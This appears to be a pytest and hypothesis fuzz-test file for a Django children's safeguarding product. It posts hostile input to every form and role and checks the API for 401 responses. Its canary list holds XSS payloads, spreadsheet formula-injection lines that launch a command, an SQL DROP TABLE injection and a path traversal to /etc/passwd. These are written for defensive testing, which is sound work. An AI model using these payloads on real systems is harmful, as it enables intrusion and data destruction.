"""Hostile input through every form and the partner API: no server error, no script echoed back.

Every page in the product (``tests/test_every_url.py`` lists them, filled with a child
the user may see) is opened as a MASH worker and as a practitioner; each POST form on
it is found by reading the page, and hypothesis fills its fields with hostile text
(script and attribute-breaking canaries, spreadsheet formulas, NUL and other control
characters, right-to-left overrides, SQL, path traversal, impossible dates, very long
and empty values, arbitrary Unicode). Every answer must be below 500 and must never
contain a canary unescaped.

Then eight more demo roles (business unit, panel chair, analyst, police officer, harmful
sexual behaviour team, school and health designated leads, system administrator) open
every page too, so the forms of every part of the product are fuzzed; and a member of the
public, signed out, posts to every public form (newsletter, event interest, unsubscribe).

Pages reached only through objects (an early help episode, information requests, a team
queue and its item) are created first so their forms are fuzzed too; and each part's
records (a meeting and its agenda item, a training session and booking, contextual
places, people, links, concerns and disruption actions, a missing episode, the
exploitation panel, a case review, a harmful sexual behaviour concern and its pathways)
are built as that part's tests build them, and the people who work on them fuzz the forms
on their pages.

``make test`` runs 2 examples a form (one of them every field set to the script
canary), and every API operation without a token and with a wrong one. ``make fuzz``
runs the forms with ``SAFEGUARD_FUZZ_EXAMPLES`` (default 40) and the partner API drill
in ``test_fuzz_api.py``: schemathesis with every check and every phase.
"""

from __future__ import annotations

import datetime as dt
import os
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from django.utils import timezone
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from safeguard.core.middleware import is_public_path
from safeguard.core.models import Role
from tests.factories import AgencyFactory, InvolvementFactory, PersonFactory, UserFactory
from tests.test_every_url import PUBLIC, all_paths

SCRIPT = '<script>alert("sgfuzz")</script>'
ATTRIBUTE = '"><img src=x onerror=alert("sgfuzz")>'
CANARIES = [
    SCRIPT,
    ATTRIBUTE,
    "javascript:alert('sgfuzz')",
    '=HYPERLINK("http://example.invalid/?x="&A1,"sgfuzz")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "a\x00b",
    "\x1b[31m\x07\x0b",
    "\u202egnp.exe",
    "'; DROP TABLE people_person; --",
    "../../../../etc/passwd",
    "31/02/2026",
    "9999-99-99",
    "-1",
    "1e309",
    "\ud83d\udc76" * 50,
    "x" * 20_000,
    "",
    " ",
]
# Pages whose forms change the session itself rather than data.
SKIP = {
    "/sign-in/",
    "/sign-in/two-factor/",
    "/sign-out/",
    "/session/keep-alive/",
    "/account/two-factor/",
}
EXAMPLES = int(os.environ.get("SAFEGUARD_FUZZ_EXAMPLES", "2"))

hostile_text = st.one_of(st.sampled_from(CANARIES), st.text(max_size=200))


class _Forms(HTMLParser):
    """The POST forms on a page: action, and each field's name with its possible values."""

    def __init__(self) -> None:
        super().__init__()
        self.forms: list[dict[str, Any]] = []
        self._form: dict[str, Any] | None = None
        self._select: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "form" and a.get("method", "get").lower() == "post":
            self._form = {"action": a.get("action", ""), "fixed": {}, "choices": {}, "text": []}
            self.forms.append(self._form)
        if self._form is None or not a.get("name"):
            if tag == "option" and self._form is not None and self._select:
                self._form["choices"][self._select].append(a.get("value", ""))
            return
        name = a["name"]
        kind = a.get("type", "text").lower()
        if tag == "input" and kind in {"hidden", "submit"}:
            self._form["fixed"][name] = a.get("value", "")
        elif tag == "input" and kind in {"checkbox", "radio"}:
            self._form["choices"].setdefault(name, []).append(a.get("value", "on"))
        elif tag == "select":
            self._select = name
            self._form["choices"].setdefault(name, [])
        elif tag in {"input", "textarea"} and name not in self._form["text"]:
            self._form["text"].append(name)

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None


def _forms(client: Any, path: str) -> list[tuple[str, dict[str, Any]]]:
    response = client.get(path)
    if response.status_code != 200 or "text/html" not in response.get("Content-Type", ""):
        return []
    parser = _Forms()
    parser.feed(response.content.decode())
    found = []
    for form in parser.forms:
        action = form["action"] or path
        if not action.startswith("/") or action in SKIP:
            continue
        found.append((action, form))
    return found


def _strategy(form: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    fields: dict[str, st.SearchStrategy[Any]] = {
        name: st.just(value)
        for name, value in form["fixed"].items()
        if name != "csrfmiddlewaretoken"
    }
    for name, values in form["choices"].items():
        fields[name] = st.one_of(st.sampled_from(values or [""]), hostile_text)
    for name in form["text"]:
        fields[name] = hostile_text
    return st.fixed_dictionaries(fields)


def _assert_safe(response: Any, where: str) -> None:
    assert response.status_code < 500, f"{where} answered {response.status_code}"
    body = response.content
    assert SCRIPT.encode() not in body, f"{where} echoed a script unescaped"
    assert b'onerror=alert("sgfuzz")>' not in body, f"{where} echoed an attribute unescaped"


def _fuzz_form(client: Any, user: Any | None, action: str, form: dict[str, Any]) -> None:
    """Post hypothesis' hostile values to one form, signed in afresh each time."""
    every_field_a_script = {
        **{n: v for n, v in form["fixed"].items() if n != "csrfmiddlewaretoken"},
        **{n: SCRIPT for n in [*form["text"], *form["choices"]]},
    }

    @settings(
        max_examples=max(EXAMPLES - 1, 1),
        deadline=None,
        database=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(data=_strategy(form))
    @example(data=every_field_a_script)
    def post(data: dict[str, Any]) -> None:
        if user is None:
            client.logout()
        else:
            client.force_login(user)
        response = client.post(action, data)
        who = sorted(user.role_codes()) if user is not None else "a member of the public"
        _assert_safe(response, f"POST {action} as {who}")
        if response.status_code == 302 and response["Location"].startswith("/"):
            _assert_safe(client.get(response["Location"]), f"after POST {action}")

    post()


@pytest.fixture
def users(make_user):
    """A MASH worker and a practitioner who both see one child, and a concern in the MASH."""
    from safeguard.frontdoor.categories import CATEGORIES
    from safeguard.frontdoor.services.contacts import ChildDetails, contact_submit

    mash_agency = AgencyFactory(name="Fuzz MASH", slug="fuzz-mash", is_mash=True)
    mash = make_user(Role.MASH_WORKER, Role.MASH_MANAGER, agency=mash_agency)
    practitioner = make_user(Role.PRACTITIONER, agency=mash_agency)
    child = PersonFactory(given_name="Fuzz", family_name="Target")
    InvolvementFactory(person=child, agency=mash_agency)
    contact = contact_submit(
        by=practitioner,
        children=[ChildDetails(person_id=child.pk)],
        categories=[CATEGORIES[0].code],
        what_happened="Synthetic concern for the fuzz drill.",
        happened_on=None,
        child_voice="Synthetic.",
        immediate_danger=False,
        family_knows="",
        consent="given",
        referrer_name="Fuzz referrer",
        referrer_email="fuzz@example.org",
    )
    extra = _objects_behind_pages(child, contact, mash_agency, mash, practitioner)
    return child, contact.reference, [mash, practitioner], extra


def _objects_behind_pages(child, contact, mash_agency, mash, practitioner) -> list[str]:
    """Objects whose pages hold forms no URL filled with a child's id reaches.

    An early help episode (its support, consent, change and close forms; with the family's
    consent recorded and a draft assessment, the assessment with its plan and the withdrawal
    of consent), information requests (the MASH asking the users' agency about the contact:
    the answer and correction forms; a school asking the users' agency through the
    sharing pages), and a team queue with an item in it (take, allocate, complete).
    Returns the pages that open them.
    """
    from django.urls import get_resolver

    from safeguard.core.models import TeamMembership
    from safeguard.earlyhelp.models import FamilyConsent
    from safeguard.earlyhelp.services import (
        assessment_start,
        early_help_episode_open,
        family_consent_record,
    )
    from safeguard.frontdoor.services import information_request_create as mash_ask
    from safeguard.sharing.services import information_request_create
    from tests.factories import TeamFactory, WorkItemFactory
    from tests.test_every_url import _walk

    episode = early_help_episode_open(by=mash, children=[child], reason="Fuzz drill")
    # The assessment (with the plan agreed with the family) opens only once someone has
    # agreed to it: the child agrees here, and a draft assessment is started.
    consent = family_consent_record(
        by=mash,
        episode=episode,
        person=child,
        decision=FamilyConsent.Decision.GIVEN,
        decided_on=timezone.localdate() - dt.timedelta(days=1),
        method=FamilyConsent.Method.IN_PERSON,
        to_assessment=True,
    )
    assessment = assessment_start(by=mash, episode=episode)
    asker_agency = AgencyFactory(name="Fuzz School", slug="fuzz-school")
    asker = UserFactory(roles=[Role.PRACTITIONER], agency=asker_agency)
    InvolvementFactory(person=child, agency=asker_agency, lead_practitioner=asker)
    information_request_create(
        by=asker,
        person=child,
        to_agency=mash_agency,
        purpose="safeguarding_assessment",
        asked="Anything known about the family?",
        due_date=timezone.localdate() + dt.timedelta(days=5),
    )
    team = TeamFactory(agency=mash_agency, slug="fuzz-team", name="Fuzz team")
    for user in (mash, practitioner):
        TeamMembership.objects.create(
            team=team, user=user, is_manager=user == mash, since=timezone.localdate()
        )
    item = WorkItemFactory(team=team, subject_type="person", subject_id=str(child.pk))
    fills = {
        "early-help/": str(episode.pk),
        "work/teams/": team.slug,
        "work/items/": str(item.pk),
    }
    # Two requests for information from the MASH to the users' agency: one for the MASH's
    # own pages (recording the answer, correcting it), one for the asked agency's answer
    # page. With one request for both, whichever page was fuzzed first answered it, and the
    # other then offered no form: on SQLite the agency's page came first only because its
    # id was 1, the id tests/test_every_url.py fills in; on PostgreSQL ids are not reset
    # between tests, so the MASH's page came first and the agency's page offered nothing.
    enquiry, for_agency = (
        mash_ask(by=mash, contact=contact, agency=mash_agency, question=question)
        for question in ("What do you know of the family?", "Is the family known to you?")
    )
    ref = contact.reference
    paths = {
        "/sharing/requests/",
        "/work/",
        f"/mash/{ref}/ask/{enquiry.pk}/",
        f"/mash/{ref}/ask/{enquiry.pk}/correct/",
        f"/mash/requests/{for_agency.pk}/",
        f"/early-help/{episode.pk}/assessment/{assessment.pk}/",
        f"/early-help/{episode.pk}/consent/{consent.pk}/withdraw/",
    }
    for route in _walk(get_resolver().url_patterns):
        for prefix, value in fills.items():
            if route.startswith(prefix) and "<" in route and "(?P" not in route:
                paths.add("/" + re.sub(r"<[^>]+>", value, route))
    # Closing the episode last: a close that succeeded would shut the pages after it.
    return sorted(paths, key=lambda path: (path.endswith("/close/"), path))


@pytest.mark.django_db
@pytest.mark.timeout(1800)
def test_every_form_refuses_hostile_input_without_a_server_error_or_an_unescaped_echo(
    users, signed_in
):
    child, reference, people, extra = users
    fuzzed: set[tuple[str, str]] = set()
    paths = [p.replace("/mash/x/", f"/mash/{reference}/") for p in all_paths(str(child.pk))]
    paths += [p for p in extra if p not in paths]
    for user in people:
        client = signed_in(user)
        for path in paths:
            if path in SKIP:
                continue
            for action, form in _forms(client, path):
                key = (action, ",".join(sorted([*form["text"], *form["choices"]])))
                if key in fuzzed:
                    continue
                fuzzed.add(key)
                _fuzz_form(client, user, action, form)
    assert len(fuzzed) >= 10, f"only {len(fuzzed)} forms found: {sorted(fuzzed)}"
    actions = {action for action, _ in fuzzed}
    must_reach = ["/early-help/", "/work/items/", "/mash/requests/"]
    for reached in must_reach:
        assert any(a.startswith(reached) for a in actions), f"no form fuzzed under {reached}"
    # The early help assessment (holding the plan agreed with the family) and the
    # withdrawal of consent: open only once consent and an assessment are recorded.
    for reached in (r"/early-help/[^/]+/assessment/[^/]+/$", r"/early-help/[^/]+/consent/\d+/"):
        assert any(re.match(reached, a) for a in actions), f"no form fuzzed at {reached}"
    if os.environ.get("SAFEGUARD_FUZZ_LIST"):
        print(f"{len(fuzzed)} forms fuzzed:", *sorted(a for a, _ in fuzzed), sep="\n  ")  # noqa: T201


# Demo roles beyond the MASH worker and the practitioner: (who, roles, agency kind, team).
MORE_ROLES: list[tuple[str, list[str], str, str | None]] = [
    ("business unit", [Role.BUSINESS_UNIT], "childrens_social_care", "partnership"),
    (
        "panel chair",
        [Role.PANEL_CHAIR, Role.PRACTITIONER],
        "childrens_social_care",
        "contextual_safeguarding",
    ),
    ("analyst", [Role.ANALYST], "childrens_social_care", None),
    ("police officer", [Role.PRACTITIONER], "police", "police_safeguarding"),
    (
        "harmful sexual behaviour team member",
        [Role.PRACTITIONER],
        "childrens_social_care",
        "harmful_sexual_behaviour",
    ),
    (
        "school designated safeguarding lead",
        [Role.PRACTITIONER],
        "education_school",
        "safeguarding_office",
    ),
    ("health designated lead", [Role.PRACTITIONER], "health_hospital", "safeguarding_office"),
    ("system administrator", [Role.SYSTEM_ADMINISTRATOR], "childrens_social_care", None),
]


@pytest.mark.django_db
@pytest.mark.timeout(1800)
def test_more_roles_reach_the_forms_of_every_part_of_the_product(users, signed_in):
    """Police, panel chair, business unit, analyst, designated leads, the teams: their forms.

    Each role opens every page; a form another role here already fuzzed is not fuzzed again.
    """
    from safeguard.core.models import TeamMembership
    from tests.factories import TeamFactory

    child, reference, _people, extra = users
    base = [p.replace("/mash/x/", f"/mash/{reference}/") for p in all_paths(str(child.pk))]
    base += [p for p in extra if p not in base]
    fuzzed: set[tuple[str, str]] = set()
    for who, roles, kind, purpose in MORE_ROLES:
        agency = AgencyFactory(kind=kind, name=f"Fuzz {who}")
        user = UserFactory(roles=roles, agency=agency)
        InvolvementFactory(person=child, agency=agency, lead_practitioner=user)
        if purpose:
            team = TeamFactory(agency=agency, purpose=purpose, name=f"Fuzz {who} team")
            TeamMembership.objects.create(team=team, user=user, since=timezone.localdate())
        client = signed_in(user)
        for path in base:
            if path in SKIP:
                continue
            for action, form in _forms(client, path):
                key = (action, ",".join(sorted([*form["text"], *form["choices"]])))
                if key in fuzzed:
                    continue
                fuzzed.add(key)
                _fuzz_form(client, user, action, form)
    reached = {action.split("/")[1] for action, _ in fuzzed}
    if os.environ.get("SAFEGUARD_FUZZ_LIST"):
        listed = sorted(a for a, _ in fuzzed)
        print(f"{len(fuzzed)} forms fuzzed by more roles:", *listed, sep="\n  ")  # noqa: T201
    # 74 forms on SQLite on 30 November 2026 (the MASH worker and the practitioner reach
    # 55); up to 8 sit at an id tests/test_every_url.py fills with 1, which PostgreSQL's
    # sequences (not reset between tests) may have passed.
    assert len(fuzzed) >= 60, sorted(fuzzed)
    parts = {
        "accounts",
        "contextual",
        "directory",
        "exploitation",
        "harmful-sexual-behaviour",
        "insight",
        "learning",
        "meetings",
        "training",
    }
    assert reached >= parts, f"no form fuzzed under {sorted(parts - reached)}"
    # Forms the MASH worker and the practitioner never reach (24 such on PostgreSQL).
    actions = {action for action, _ in fuzzed}
    only_these_roles = {
        "/accounts/new/",
        "/directory/import/",
        "/directory/events/new/",
        "/harmful-sexual-behaviour/trained-practitioners/",
        "/insight/census/",
        "/insight/measures/enter/",
        "/learning/reviews/new/",
        "/training/manage/courses/new/",
        "/work/manage/teams/",
    }
    assert only_these_roles <= actions, f"not fuzzed: {sorted(only_these_roles - actions)}"


@pytest.mark.django_db
@pytest.mark.timeout(600)
def test_every_public_form_refuses_hostile_input_signed_out(client, make_user):
    """The forms anyone may post without signing in: newsletter, event interest, unsubscribe."""
    from django.test import Client

    from safeguard.directory import services as directory
    from safeguard.directory.models import Subscriber, SubscriberStatus
    from safeguard.directory.services.newsletter import token_for

    start = timezone.now() + dt.timedelta(days=5)
    event = directory.event_save(
        by=make_user(Role.BUSINESS_UNIT),
        event=None,
        title="Fuzz briefing",
        kind="briefing",
        description="Synthetic.",
        starts_at=start,
        ends_at=start + dt.timedelta(hours=1),
        location="Online",
        places=5,
    )
    subscriber = Subscriber.objects.create(
        email="fuzz@example.org", status=SubscriberStatus.CONFIRMED, signed_up_at=timezone.now()
    )
    child = PersonFactory()
    # Every other page sends a signed-out visitor to sign in (tests/test_every_url.py).
    paths = [
        *(p for p in all_paths(str(child.pk)) if p in PUBLIC or is_public_path(p)),
        f"/events/{event.slug}/",
        f"/newsletter/unsubscribe/{token_for(subscriber, 'unsubscribe')}/",
    ]
    client = Client()  # signed out throughout
    fuzzed: set[tuple[str, str]] = set()
    for path in paths:
        if path in SKIP:
            continue
        for action, form in _forms(client, path):
            key = (action, ",".join(sorted([*form["text"], *form["choices"]])))
            if key in fuzzed:
                continue
            fuzzed.add(key)
            _fuzz_form(client, None, action, form)
    actions = sorted({re.sub(r"unsubscribe/[^/]+/", "unsubscribe/<token>/", a) for a, _ in fuzzed})
    for reached in ("/newsletter/", f"/events/{event.slug}/", "/newsletter/unsubscribe/<token>/"):
        assert reached in actions, f"no public form fuzzed at {reached}: {actions}"
    if os.environ.get("SAFEGUARD_FUZZ_LIST"):
        print(f"{len(fuzzed)} public forms fuzzed:", *actions, sep="\n  ")  # noqa: T201


@pytest.mark.django_db
def test_the_api_answers_every_operation_without_a_token_or_with_a_wrong_one_with_401(client):
    from safeguard.api.api import api

    schema = api.get_openapi_schema(path_prefix="/api/v1/")
    operations = [
        (method, path)
        for path, item in schema["paths"].items()
        for method in item
        if method in {"get", "post", "put", "patch", "delete"}
    ]
    assert operations
    for method, path in operations:
        url = path.replace("{reference}", "MASH-0000-000001")
        for headers in ({}, {"HTTP_AUTHORIZATION": "Bearer not-a-real-token"}):
            response = client.generic(
                method.upper(), url, data=b"{}", content_type="application/json", **headers
            )
            assert response.status_code == 401, f"{method} {url} {headers}: {response.status_code}"


def _fill_routes(fills: dict[str, dict[str, str]]) -> set[str]:
    """Every page under a prefix, its placeholders (by name) filled with the record's keys."""
    from django.urls import get_resolver

    from tests.test_every_url import _walk

    paths = set()
    for route in _walk(get_resolver().url_patterns):
        for prefix, values in fills.items():
            if not route.startswith(prefix) or "(?P" in route:
                continue
            names = re.findall(r"<(?:\w+:)?(\w+)>", route)
            if names and all(name in values for name in names):
                path = route
                for name in names:
                    path = re.sub(rf"<(?:\w+:)?{name}>", values[name], path)
                paths.add("/" + path)
    return paths


def _fuzz_pages_as(
    people: list[Any], paths: set[str], signed_in: Any, fuzzed: set[tuple[str, str]]
) -> None:
    """Each person opens each page (closing, cancelling and ending last); every form is fuzzed."""
    last = ("/close/", "/cancel/", "/change/", "/finalise/")
    ordered = sorted(paths, key=lambda path: (path.endswith(last), path))
    for user in people:
        client = signed_in(user)
        for path in ordered:
            if path in SKIP or not path.endswith("/"):
                continue
            for action, form in _forms(client, path):
                key = (action, ",".join(sorted([*form["text"], *form["choices"]])))
                if key in fuzzed:
                    continue
                fuzzed.add(key)
                _fuzz_form(client, user, action, form)


def _meeting_pages(make_user: Any) -> tuple[list[Any], set[str]]:
    """Two panel meetings about a child, as the chair and an invited practitioner.

    The first was held: its minutes (the child's voice, an action owned by the police)
    are finalised and its outcome sent, so its minutes and outcome pages are opened too
    and its open action comes back on the second meeting's agenda. The second is to come,
    with the child on its agenda and an action recorded, so the form that changes an
    action's owner and date is fuzzed beside the notes, decisions and actions forms.
    """
    from safeguard.meetings import services
    from safeguard.meetings.kinds import kinds_seed
    from safeguard.meetings.models import ItemKind
    from tests.meetings.conftest import arrange_panel, at, build_partnership, next_weekday

    kinds_seed()
    p = build_partnership(make_user)
    held = arrange_panel(p)
    earlier = services.item_add(
        by=p.chair, meeting=held, kind=ItemKind.CHILD, title="Missing once", person=p.ava
    )
    services.item_notes_save(by=p.chair, item=earlier, notes={"child_voice": "Wants to stay"})
    due = timezone.localdate() + dt.timedelta(days=30)
    services.action_add(
        by=p.chair, item=earlier, description="Visit the park", owner_user=p.officer, due_on=due
    )
    services.minutes_finalise(by=p.chair, meeting=held)
    meeting = services.meeting_arrange(
        by=p.chair,
        kind=p.panel,
        title="Exploitation panel",
        starts_at=at(next_weekday() + dt.timedelta(days=7)),
        agencies=[p.csc, p.police],
    )
    item = services.item_add(
        by=p.chair, meeting=meeting, kind=ItemKind.CHILD, title="Missing twice", person=p.ava
    )
    action = services.action_add(
        by=p.chair, item=item, description="Talk to Ava's school", owner_agency=p.csc, due_on=due
    )
    paths = _fill_routes(
        {
            "meetings/<str:reference>/": {
                "reference": meeting.reference,
                "item_id": str(item.pk),
                "action_id": str(action.pk),
            }
        }
    )
    paths |= _fill_routes(
        {"meetings/<str:reference>/": {"reference": held.reference, "item_id": str(earlier.pk)}}
    )
    return [p.chair, p.worker], paths


def _training_pages(make_user: Any) -> tuple[list[Any], set[str]]:
    """A course, a session of it and a learner's booking, as the business unit, trainer, learner."""
    from safeguard.training import services
    from tests.training.conftest import build_partnership, make_session_for

    p = build_partnership(make_user)
    session = make_session_for(p.course, p.trainer)
    booking = services.booking_create(by=p.learner, session=session, learner=p.learner).booking
    # A second session no one manages here, so its one-button "Book a place" form (and the
    # manager's "Book for someone in your team") is still there when the fuzz reaches it:
    # the first session's own "cancel the session" form is fuzzed before its page.
    bookable = make_session_for(p.course, p.trainer, days=21)
    paths = {f"/training/sessions/{bookable.pk}/"} | _fill_routes(
        {
            "training/courses/": {"slug": p.course.slug},
            "training/manage/courses/": {"slug": p.course.slug},
            "training/sessions/": {"pk": str(session.pk)},
            "training/manage/sessions/": {"pk": str(session.pk)},
            "training/bookings/": {"pk": str(booking.pk)},
        }
    )
    return [p.unit, p.trainer, p.learner, p.manager], paths


def _contextual_pages(make_user: Any) -> tuple[list[Any], set[str]]:
    """A peer group, a place, a person of concern, a link, a concern, a disruption action."""
    from safeguard.contextual import services
    from safeguard.contextual.models import LinkKind
    from tests.contextual.conftest import build, link, place

    w = build(make_user)
    spot = place(w)
    dee = services.person_of_concern_create(by=w.officer, name="Dee")
    group = services.peer_group_create(by=w.social_worker, name="The bus stop group")
    joined = link(w, LinkKind.CHILD_PLACE, child=w.ava, place=spot)
    concern = services.context_concern_report(
        by=w.teacher, context_kind="place", where="The number 6 bus", what_happened="Vapes"
    )
    action = services.disruption_action_agree(
        by=w.social_worker,
        tool="patrols",
        description="Evening patrols",
        owner_agency=w.police,
        due_on=timezone.localdate() + dt.timedelta(days=7),
        place=spot,
    )
    paths = _fill_routes(
        {
            "contextual/places/": {"pk": str(spot.pk)},
            "contextual/persons/": {"pk": str(dee.pk)},
            "contextual/groups/": {"pk": str(group.pk)},
            "contextual/links/": {"pk": str(joined.pk)},
            "contextual/concerns/": {"reference": concern.reference},
            "contextual/actions/": {"reference": action.reference},
        }
    )
    return [w.social_worker, w.officer, w.teacher], paths


def _missing_pages(make_user: Any) -> tuple[list[Any], set[str]]:
    """A missing episode after the child's return: its return interview, its priority."""
    from tests.exploitation.missing_fixtures import back, build_missing, report

    m = build_missing(make_user)
    episode = report(m)
    back(m, episode)
    paths = _fill_routes(
        {"exploitation/missing/<str:reference>/": {"reference": episode.reference}}
    )
    return [m.officer, m.worker, m.interviewer], paths


def _panel_pages(make_user: Any) -> tuple[list[Any], set[str]]:
    """A screening of a child for the exploitation panel, and the panel meeting."""
    from safeguard.exploitation.models.panel import RiskLevel
    from safeguard.exploitation.panel import services
    from tests.exploitation.panel_world import build_world

    w = build_world(make_user)
    screening = services.screening_record(
        by=w.worker,
        person=w.child,
        screened_on=timezone.localdate(),
        indicators={"missing": {"when": "current", "evidence": "Missing twice in March"}},
        incidents=[],
        incident_detail="",
        judgement="Worried about the older boys at the retail park.",
        judgement_level=RiskLevel.MODERATE,
    )
    paths = _fill_routes(
        {
            "exploitation/panel/screenings/": {"reference": screening.reference},
            "exploitation/panel/meetings/": {"reference": w.panel.reference},
        }
    )
    return [w.worker, w.chair], paths


def _learning_pages(make_user: Any) -> tuple[list[Any], set[str]]:
    """A serious incident's case review with its steps, as the business unit and the chair."""
    from safeguard.learning import services
    from safeguard.learning.models import ReviewKind
    from safeguard.learning.seeds import reference_data_seed
    from tests.learning.conftest import build_partnership

    reference_data_seed()
    p = build_partnership(make_user)
    review = services.review_open(
        by=p.business,
        kind=ReviewKind.SERIOUS_INCIDENT,
        title="Injury to a baby",
        summary="",
        agency=p.csc,
        aware_on=timezone.localdate() - dt.timedelta(days=1),
    )
    paths = _fill_routes({"learning/reviews/": {"reference": review.reference}})
    return [p.business, p.chair], paths


def _hsb_pages(make_user: Any) -> tuple[list[Any], set[str]]:
    """A concern the school records (Leo harmed Mia) and the pathways it opens."""
    from safeguard.hsb.models import Pathway
    from tests.hsb.conftest import build_partnership, record

    p = build_partnership(make_user)
    concern = record(p)
    paths = _fill_routes({"harmful-sexual-behaviour/concerns/": {"reference": concern.reference}})
    for pathway in Pathway.objects.filter(person__in=[p.leo, p.mia]):
        paths |= _fill_routes(
            {"harmful-sexual-behaviour/pathways/": {"pathway_id": str(pathway.pk)}}
        )
    return [p.yjs_manager, p.yjs_worker, p.social_worker, p.teacher], paths


# Each part's record pages, and the forms on them its fuzz must reach (43 forms in all on
# SQLite on 30 November 2026, 13 of them a meeting's and 7 training's; a peer group's page, a
# screening's page and a held meeting's minutes and outcome pages hold no form: the minutes
# are written in the agenda item's notes, decisions and actions forms and sent by finalising).
RECORD_PAGES: dict[str, tuple[Any, list[str]]] = {
    "meetings": (
        _meeting_pages,
        [
            r"/meetings/[^/]+/items/\d+/actions/$",
            r"/meetings/[^/]+/items/\d+/decisions/$",
            r"/meetings/[^/]+/invitations/\d+/answer/$",
            r"/meetings/[^/]+/attendance/$",
            r"/meetings/[^/]+/items/\d+/actions/\d+/$",
        ],
    ),
    "training": (
        _training_pages,
        [
            r"/training/bookings/\d+/change/$",
            r"/training/manage/sessions/\d+/$",
            r"/training/sessions/\d+/$",
        ],
    ),
    "contextual": (
        _contextual_pages,
        [
            r"/contextual/actions/[^/]+/$",
            r"/contextual/concerns/[^/]+/$",
            r"/contextual/links/\d+/$",
            r"/contextual/persons/\d+/change/$",
            r"/contextual/places/\d+/change/$",
        ],
    ),
    "missing": (
        _missing_pages,
        [
            r"/exploitation/missing/[^/]+/interview/offer/$",
            r"/exploitation/missing/[^/]+/priority/$",
        ],
    ),
    "panel": (_panel_pages, [r"/exploitation/panel/meetings/[^/]+/$"]),
    "learning": (_learning_pages, [r"/learning/reviews/[^/]+/$"]),
    "harmful-sexual-behaviour": (
        _hsb_pages,
        [
            r"/harmful-sexual-behaviour/concerns/[^/]+/change/$",
            r"/harmful-sexual-behaviour/concerns/[^/]+/strategy-meeting/$",
            r"/harmful-sexual-behaviour/pathways/\d+/keyworker/$",
            r"/harmful-sexual-behaviour/pathways/\d+/consent/$",
            r"/harmful-sexual-behaviour/pathways/\d+/assessments/new/$",
        ],
    ),
}


@pytest.mark.django_db
@pytest.mark.timeout(1800)
@pytest.mark.parametrize("part", sorted(RECORD_PAGES))
def test_the_forms_on_a_records_pages_refuse_hostile_input(part, make_user, signed_in):
    """A meeting, a booking, contextual records, a missing episode...: the forms on their pages.

    Each part's records are built as its own tests build them, and the people who work on
    them (the chair, the trainer, the police officer...) open every page under them.
    """
    build, must_reach = RECORD_PAGES[part]
    people, paths = build(make_user)
    fuzzed: set[tuple[str, str]] = set()
    _fuzz_pages_as(people, paths, signed_in, fuzzed)
    actions = sorted(action for action, _ in fuzzed)
    if os.environ.get("SAFEGUARD_FUZZ_LIST"):
        print(f"{part}: {len(actions)} forms fuzzed:", *actions, sep="\n  ")  # noqa: T201
    for pattern in must_reach:
        assert any(re.match(pattern, a) for a in actions), f"none at {pattern}: {actions}"
